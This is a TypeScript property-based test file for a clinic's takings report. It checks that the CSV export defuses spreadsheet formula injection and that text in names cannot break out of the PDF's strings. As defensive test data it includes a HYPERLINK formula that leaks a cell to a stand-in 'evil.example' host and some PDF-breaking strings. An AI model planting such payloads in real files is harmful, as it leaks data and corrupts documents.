import { csvTextOf, PAYMENT_METHOD_LABEL, type TakingsView } from '@studio/contracts';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { takingsCsv, takingsPdf } from './takings-report';

/** what a spreadsheet would run: a cell starting with one of these that is not a plain figure ("-12,50") */
const FORMULA = /^[=+\-@\t\r]/;
const FIGURE = /^-?\d+(,\d+)?$/;
const name = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '"', ';', "'"), fc.string()).map(([a, b]) => a + b),
  fc.constant('=HYPERLINK("http://evil.example/?"&A2,"Apri")'),
);
const row = fc.record({
  doctorId: fc.uuid(),
  doctorName: name,
  method: fc.constantFrom('paypal', 'cash', 'card', 'transfer') as fc.Arbitrary<'paypal' | 'cash' | 'card' | 'transfer'>,
  payments: fc.nat(1000),
  refunds: fc.nat(1000),
  netCents: fc.integer({ min: -1e7, max: 1e7 }),
});

describe('the takings CSV', () => {
  it('no cell starts with a formula character, whatever the doctors are called, and every name and figure reads back', () => {
    fc.assert(
      fc.property(fc.array(row, { maxLength: 6 }), (rows) => {
        const view: TakingsView = { day: '2026-03-02', rows, totalCents: rows.reduce((s, r) => s + r.netCents, 0) };
        const cells = parse(takingsCsv(view), { delimiter: ';', bom: true, record_delimiter: '\r\n' }) as string[][];
        expect(cells).toHaveLength(rows.length + 2);
        for (const cell of cells.flat()) expect(FIGURE.test(cell) || !FORMULA.test(cell)).toBe(true);
        rows.forEach((r, i) => {
          const [day, doctor, method, payments, refunds, net] = cells[i + 1];
          expect([csvTextOf(day), csvTextOf(doctor), csvTextOf(method)]).toEqual([view.day, r.doctorName, PAYMENT_METHOD_LABEL[r.method]]);
          expect([Number(payments), Number(refunds), Math.round(Number(net.replace(',', '.')) * 100)]).toEqual([r.payments, r.refunds, r.netCents]);
        });
      }),
    );
  });

  it('the PDF has the same objects and keys whatever the practice and the doctors are called: no name leaves its string', async () => {
    /** the file without what a name can reach (streams, strings, numbers): what must never change */
    const skeleton = (pdf: Buffer) =>
      pdf
        .toString('latin1')
        .replace(/stream\n[\s\S]*?\nendstream/g, 'stream')
        .replace(/\((?:\\[\s\S]|[^\\()])*\)/g, '()')
        .replace(/<[0-9a-fA-F]*>/g, '<>')
        .replace(/\d+/g, 'N');
    const view = (doctorName: string): TakingsView => ({
      day: '2026-03-02',
      rows: [{ doctorId: 'd1', doctorName, method: 'cash', payments: 1, refunds: 0, netCents: 8000 }],
      totalCents: 8000,
    });
    const plain = skeleton(await takingsPdf(view('Giulia Rossi'), 'Studio'));
    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom(') Tj ET endobj', '\r\nendstream\r\nendobj', '(\\', '%%EOF'));
    await fc.assert(
      fc.asyncProperty(text, text, async (practice, doctor) => {
        expect(skeleton(await takingsPdf(view(doctor), practice))).toBe(plain);
      }),
      { numRuns: 40 },
    );
  });
});
